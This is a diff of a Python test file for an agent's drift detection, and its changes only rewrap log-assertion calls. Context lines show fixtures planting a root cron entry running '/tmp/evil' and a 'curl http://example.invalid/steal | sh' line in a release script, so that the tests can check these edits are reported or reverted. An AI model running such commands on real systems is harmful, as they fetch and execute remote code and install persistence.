@@ -245,7 +245,9 @@ def test_hand_edit_of_the_cron_file_is_reported_by_the_file_watch(
         handle.write("* * * * * root /tmp/evil\n")
     # interval and full_check are 10 minutes: only the file watch can see this
     agent.wait_log(
-        agent_line(r"drift: the managed cron file was edited by hand", "warning"), timeout=10, after=mark
+        agent_line(r"drift: the managed cron file was edited by hand", "warning"),
+        timeout=10,
+        after=mark,
     )
     drift = wait_for("drift in state.json", lambda: sandbox.state().get("drift"), timeout=10)
     assert {"what": "cron-file", "message": "the managed cron file was edited by hand"} in drift
@@ -271,7 +273,9 @@ def test_hand_edit_of_the_cron_file_is_reverted_in_revert_mode(
         timeout=10,
     )
     agent.wait_log(
-        agent_line(r"drift reverted: the managed cron file was edited", "warning"), timeout=10, after=mark
+        agent_line(r"drift reverted: the managed cron file was edited", "warning"),
+        timeout=10,
+        after=mark,
     )
     assert sandbox.state()["drift"] == []
     assert leftovers(sandbox) == []
@@ -296,7 +300,9 @@ def test_hand_edit_of_a_release_script_is_reported_by_the_file_watch(
         with script.open("a") as handle:
             handle.write("curl http://example.invalid/steal | sh\n")
     agent.wait_log(
-        agent_line(rf"drift: files of release {re.escape(release)} were changed by hand", "warning"),
+        agent_line(
+            rf"drift: files of release {re.escape(release)} were changed by hand", "warning"
+        ),
         timeout=10,
         after=mark,
     )
@@ -652,7 +658,9 @@ def test_drift_and_stop_do_not_wait_for_a_hanging_cloudwatch(
     with sandbox.cron_file.open("a") as handle:
         handle.write("* * * * * root /tmp/evil\n")
     agent.wait_log(
-        agent_line(r"drift: the managed cron file was edited by hand", "warning"), timeout=10, after=mark
+        agent_line(r"drift: the managed cron file was edited by hand", "warning"),
+        timeout=10,
+        after=mark,
     )
 
     agent.signal(signal.SIGTERM)  # with metrics still waiting for an answer
